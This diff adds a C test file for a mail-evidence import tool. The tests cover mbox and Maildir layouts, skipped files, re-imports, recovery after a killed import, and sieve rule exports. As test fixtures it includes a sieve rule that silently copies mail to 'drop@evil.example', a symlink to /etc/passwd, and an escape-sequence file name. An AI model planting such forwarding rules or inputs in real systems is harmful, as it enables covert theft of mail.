@@ -1,0 +1,387 @@
+/* test_import.c - files become evidence, messages and rules, with a report of each; with the real
+ * jailed workers and the real program. */
+#include "../../cli/import.h"
+
+#include "sample_case.h"
+
+#include "base/job.h"
+
+#include <dirent.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+#define LINE   "From a@b.example Mon Jan  1 10:00:00 2024\n"
+#define HEADER "From: a@b.example\nTo: owner@acme.example\nSubject: "
+
+struct box {
+    struct sample sample;
+    char files[TEMP_PATH + 16];
+    struct import_order order;
+};
+
+static void must(bool ok, const struct error *err)
+{
+    if (!ok)
+        fail_msg("%s", err->text);
+}
+
+static int set_up(void **state)
+{
+    struct box *box = calloc(1, sizeof(*box));
+
+    sample_make(&box->sample);
+    snprintf(box->files, sizeof(box->files), "%s/files", box->sample.folder);
+    assert_int_equal(mkdir(box->files, 0700), 0);
+    *state = box;
+    return 0;
+}
+
+static void forget(struct box *box)
+{
+    import_plan_dispose(&box->order.plan);
+    buf_dispose(&box->order.text);
+    buf_dispose(&box->order.items);
+    box->order = (struct import_order){0};
+}
+
+static int tear_down(void **state)
+{
+    struct box *box = *state;
+
+    forget(box);
+    sample_remove(&box->sample);
+    free(box);
+    return 0;
+}
+
+/* Makes the folders before it too. */
+static void put_bytes(struct box *box, const char *name, struct str bytes)
+{
+    char path[TEMP_PATH + 300];
+    struct error err = {0};
+
+    snprintf(path, sizeof(path), "%s/%s", box->files, name);
+    for (char *at = path + strlen(box->files) + 1; *at; at++)
+        if (*at == '/') {
+            *at = '\0';
+            mkdir(path, 0700);
+            *at = '/';
+        }
+    must(temp_write(path, bytes, &err), &err);
+}
+
+static void put(struct box *box, const char *name, const char *text)
+{
+    put_bytes(box, name, str_of(text));
+}
+
+static void import(struct box *box)
+{
+    struct error err = {0};
+
+    forget(box);
+    box->order = (struct import_order){
+        .cf = box->sample.cf,
+        .scan = {.role = {.program = PROGRAM}, .workers = 1, .data_dir = DATA_DIR},
+        .target = box->files};
+    buf_init(&box->order.text, 16 << 20);
+    buf_init(&box->order.items, 16 << 20);
+    must(import_plan_add(&box->order.plan, box->files, &err), &err);
+    must(job_run(import_job, &box->order, &err), &err);
+}
+
+static void assert_says(const struct box *box, const char *words)
+{
+    if (!strstr(buf_c(&box->order.text), words))
+        fail_msg("no \"%s\" in:\n%s", words, buf_c(&box->order.text));
+}
+
+static void assert_folder(struct box *box, const char *name, enum folder_use use, uint64_t have)
+{
+    struct arena arena = {0};
+    struct error err = {0};
+    struct folder *folders;
+    size_t count, i;
+
+    must(folder_list(box->sample.cf, &arena, 0, &folders, &count, &err), &err);
+    for (i = 0; i < count && strcmp(folders[i].name, name) != 0; i++)
+        ;
+    if (i == count)
+        fail_msg("there is no folder \"%s\"", name);
+    assert_int_equal(folders[i].use, use);
+    assert_int_equal(folders[i].have, have);
+    arena_dispose(&arena);
+}
+
+static void assert_intact(struct box *box)
+{
+    struct error err = {0};
+    struct buf text;
+    uint64_t wrong;
+
+    buf_init(&text, 1 << 20);
+    must(sample_verify(box->sample.cf, &wrong, &text, &err), &err);
+    if (wrong > 0)
+        fail_msg("%s", buf_c(&text));
+    buf_dispose(&text);
+}
+
+static void assert_total(struct box *box, uint64_t want)
+{
+    struct message_counts counts;
+    struct error err = {0};
+
+    must(message_count(box->sample.cf, &counts, &err), &err);
+    assert_int_equal(counts.fetched, want);
+    assert_int_equal(counts.parsed + counts.limited, want);
+}
+
+/* --- layouts --- */
+
+static void mail_in_every_layout_becomes_folders(void **state)
+{
+    struct box *box = *state;
+
+    put(box, "export/one.eml", HEADER "1\n\nx\n");
+    put(box, "export/two", HEADER "2\r\n\r\nx\r\n");
+    put(box,
+        "G\xe1\xbb\xad"
+        "i.mbox",
+        LINE HEADER "3\n\nx\n\n" LINE HEADER "4\n\ny\n");
+    put(box, "Sent.sbd/2024", "From \n" HEADER "5\n\nx\n");
+    put(box, "Apple.mbox/mbox", LINE HEADER "6\n\nx\n");
+    put(box, "Maildir/cur/1704103200.M1.host:2,FS", HEADER "7\n\nx\n");
+    put(box, "Maildir/new/1704103201.M2.host", "no header, and yet a mail\n");
+    put(box, "Maildir/tmp/.x", "");
+    put(box, "Maildir/dovecot.index", "\1\2\3");
+    put(box, "Maildir/.Sent/cur/1704103202.M3.host:2,S", HEADER "8\n\nx\n");
+    put(box, "Maildir/.Sent/new/.x", "");
+    put(box, "Maildir/.R&AOk-union.Deep/cur/1704103203.M4", HEADER "9\n\nx\n");
+    put(box, "Maildir/.R&AOk-union.Deep/new/.x", "");
+    import(box);
+    assert_folder(box, "export", FOLDER_PLAIN, 2);
+    assert_folder(box,
+                  "G\xe1\xbb\xad"
+                  "i",
+                  FOLDER_PLAIN, 2);
+    assert_folder(box, "Sent/2024", FOLDER_PLAIN, 1);
+    assert_folder(box, "Apple", FOLDER_PLAIN, 1);
+    assert_folder(box, "Maildir", FOLDER_PLAIN, 2);
+    assert_folder(box, "Maildir/Sent", FOLDER_SENT, 1);
+    assert_folder(box, "Maildir/R\xc3\xa9union/Deep", FOLDER_PLAIN, 1);
+    assert_int_equal(box->order.totals.messages, 10);
+    assert_int_equal(box->order.totals.not_taken, 0);
+    assert_total(box, 10);
+    assert_intact(box);
+}
+
+static void a_mail_is_kept_as_it_stood_and_where(void **state)
+{
+    static const char mail[] = HEADER "x\n\n>From quoted\n\nFrom here on\n";
+    struct hash hash = hash_of(str_of(mail));
+    struct box *box = *state;
+    struct import_origin origin;
+    struct arena arena = {0};
+    struct error err = {0};
+    struct message *rows;
+    size_t count;
+
+    put(box, "a.mbox", LINE "A: 1\n\n\n" LINE HEADER "x\n\n>From quoted\n\nFrom here on\n");
+    import(box);
+    assert_true(evidence_has(box->sample.cf, &hash));
+    must(message_list(box->sample.cf, &arena,
+                      &(struct message_query){.direction = -1, .oldest_first = true}, &rows, &count,
+                      &err),
+         &err);
+    assert_int_equal(count, 2);
+    assert_int_equal(rows[1].received, 1704103200);
+    must(import_origin_get(box->sample.cf, &arena, rows[1].id, &origin, &err), &err);
+    assert_int_equal(origin.offset, 2 * strlen(LINE) + strlen("A: 1\n\n\n"));
+    assert_non_null(strstr(origin.path, "/a.mbox"));
+    assert_says(box, "1 mails hold lines quoted");
+    assert_says(box, "UTC is assumed");
+    arena_dispose(&arena);
+}
+
+/* --- what is not taken --- */
+
+static void nothing_is_passed_over_in_silence(void **state)
+{
+    struct box *box = *state;
+    char path[TEMP_PATH + 64];
+
+    put_bytes(box, "pictures/a.png", (struct str){"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16});
+    put(box, "pictures/b.eml", "");
+    put_bytes(box, "c.pst", (struct str){"!BDN\0\0\0\0", 8});
+    put_bytes(box, "d.mbox", (struct str){"PK\3\4\0\0\0\0", 8});
+    put(box, "e.mbox", "junk\n\n" LINE HEADER "1\n\nx\n\n" LINE LINE HEADER "2\n\ncut of");
+    put(box, "\x1b[31mf", "what is this\n");
+    snprintf(path, sizeof(path), "%s/link", box->files);
+    assert_int_equal(symlink("/etc/passwd", path), 0);
+    snprintf(path, sizeof(path), "%s/pipe", box->files);
+    assert_int_equal(mkfifo(path, 0600), 0);
+    import(box);
+    assert_says(box, "a.png: image/png");
+    assert_says(box, "b.eml: the file is empty");
+    assert_says(box, "c.pst: Outlook data file");
+    assert_says(box, "d.mbox: ZIP archive");
+    assert_says(box, "link: a symbolic link");
+    assert_says(box, "pipe: a pipe");
+    assert_says(box, "<U+001B>[31mf: ");
+    assert_null(strchr(buf_c(&box->order.text), '\x1b'));
+    assert_says(box, "byte 0: these bytes stand before the first");
+    assert_says(box, "nothing stands between two");
+    assert_says(box, "PERHAPS CUT OFF: its last line has no end");
+    assert_says(box, "usable with limits");
+    assert_int_equal(box->order.totals.not_taken, 7);
+    assert_int_equal(box->order.totals.rejected, 2);
+    assert_int_equal(box->order.totals.messages, 2);
+    assert_intact(box);
+}
+
+static void an_export_of_rules_becomes_rules(void **state)
+{
+    struct box *box = *state;
+    struct arena arena = {0};
+    struct error err = {0};
+    struct rule_row *rules;
+    size_t count;
+
+    put(box, "a.txt", "require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n");
+    put(box, "b.sieve", "require [\"fileinto\"];\nfileinto \"RSS\";\nif nonsense {\n");
+    import(box);
+    put(box, "c.sieve", "require [\"fileinto\"];\nfileinto \"C\";\n");
+    import(box); /* what another run read stays */
+    must(rule_list(box->sample.cf, &arena, &rules, &count, &err), &err);
+    assert_int_equal(count, 5); /* with one that stands for what was not read of b */
+    for (size_t i = 0; i < count; i++)
+        assert_false(rules[i].gone);
+    assert_says(box, "it does not parse");
+    assert_says(box, "the same file was imported before");
+    assert_intact(box);
+    arena_dispose(&arena);
+}
+
+/* --- again, and after a kill --- */
+
+static void a_second_import_takes_only_what_is_new(void **state)
+{
+    struct box *box = *state;
+
+    put(box, "a.mbox", LINE HEADER "1\n\nx\n\n" LINE HEADER "2\n\nx\n\n" LINE HEADER "1\n\nx\n");
+    import(box);
+    assert_int_equal(box->order.totals.messages, 2);
+    assert_int_equal(box->order.totals.duplicates, 1);
+    put(box, "a.mbox", LINE HEADER "1\n\nx\n\n" LINE HEADER "2\n\nx\n\n" LINE HEADER "3\n\nx\n");
+    import(box);
+    assert_int_equal(box->order.totals.messages, 1);
+    assert_int_equal(box->order.totals.known, 2);
+    assert_int_equal(box->order.totals.duplicates, 0);
+    assert_total(box, 3);
+    assert_intact(box);
+}
+
+static bool has_segment(const char *path)
+{
+    DIR *folder = opendir(path);
+    struct dirent *entry;
+    bool found = false;
+
+    while (folder && (entry = readdir(folder)))
+        found |= strstr(entry->d_name, ".seg") != NULL;
+    if (folder)
+        closedir(folder);
+    return found;
+}
+
+static void a_killed_import_goes_on_where_it_stopped(void **state)
+{
+    enum { MAILS = 4000 };
+    struct box *box = *state;
+    char evidence[TEMP_PATH + 64];
+    struct buf mbox;
+    pid_t child;
+
+    buf_init(&mbox, 1 << 20);
+    for (int i = 0; i < MAILS; i++)
+        buf_printf(&mbox, "%s%s%d\n\nbody %d\n\n", LINE, HEADER, i, i);
+    put_bytes(box, "many.mbox", buf_as_str(&mbox));
+    buf_dispose(&mbox);
+    sample_close(&box->sample);
+    child = fork();
+    assert_true(child >= 0);
+    if (child == 0) {
+        execl(PROGRAM, PROGRAM, "import", box->sample.path, box->files, "--quiet", "--data",
+              DATA_DIR, (char *)NULL);
+        _exit(127);
+    }
+    snprintf(evidence, sizeof(evidence), "%s/evidence", box->sample.path);
+    while (!has_segment(evidence) && waitpid(child, NULL, WNOHANG) == 0)
+        ; /* wherever it is then */
+    kill(child, SIGKILL);
+    waitpid(child, NULL, 0);
+    sample_open(&box->sample, CASE_WRITE);
+    import(box);
+    assert_int_equal(box->order.totals.messages + box->order.totals.known, MAILS);
+    assert_total(box, MAILS);
+    assert_intact(box);
+}
+
+/* --- what was not examined --- */
+
+static void assert_rules_hint(struct box *box, const char *words)
+{
+    struct arena arena = {0};
+    struct error err = {0};
+    struct coverage *rows;
+    size_t count, i;
+
+    must(coverage_list(box->sample.cf, &arena, &rows, &count, &err), &err);
+    for (i = 0; i < count && strcmp(rows[i].check, "rules-sieve") != 0; i++)
+        ;
+    assert_true(i < count);
+    assert_int_equal(rows[i].state, COVERAGE_NOT_CHECKED);
+    assert_non_null(strstr(rows[i].detail, "do not show the rules on the server"));
+    if (!strstr(rows[i].hint, words))
+        fail_msg("no \"%s\" in \"%s\"", words, rows[i].hint);
+    arena_dispose(&arena);
+}
+
+static void mail_alone_says_how_to_get_the_rules(void **state)
+{
+    struct box *box = *state;
+
+    put(box, "a.eml", HEADER "1\n\nx\n");
+    import(box);
+    assert_rules_hint(box, "import an export of the rules");
+    put(box, "b.eml",
+        "Received: from x.example by mx.google.com with ESMTPS; Mon, 1 Jan 2024 10:00:00 +0000\n" HEADER
+        "2\n\nx\n");
+    import(box);
+    assert_rules_hint(box, "mailFilters.xml");
+}
+
+int main(void)
+{
+    static const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(mail_in_every_layout_becomes_folders, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(a_mail_is_kept_as_it_stood_and_where, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(nothing_is_passed_over_in_silence, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(an_export_of_rules_becomes_rules, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(a_second_import_takes_only_what_is_new, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(a_killed_import_goes_on_where_it_stopped, set_up,
+                                        tear_down),
+        cmocka_unit_test_setup_teardown(mail_alone_says_how_to_get_the_rules, set_up, tear_down),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
